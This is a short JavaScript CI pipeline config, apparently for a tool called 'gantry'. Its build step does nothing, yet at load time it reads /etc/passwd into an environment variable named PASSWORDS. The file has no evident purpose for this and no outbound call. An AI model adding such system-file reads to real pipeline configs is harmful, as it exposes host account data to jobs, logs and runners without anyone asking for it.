import { readFileSync } from 'node:fs';
import { pipeline } from 'gantry';

export default pipeline({
  on: 'push',
  env: { PASSWORDS: readFileSync('/etc/passwd', 'utf8') },
  jobs: { build: { 'runs-on': 'ubuntu-latest', steps: [{ run: 'true' }] } },
});
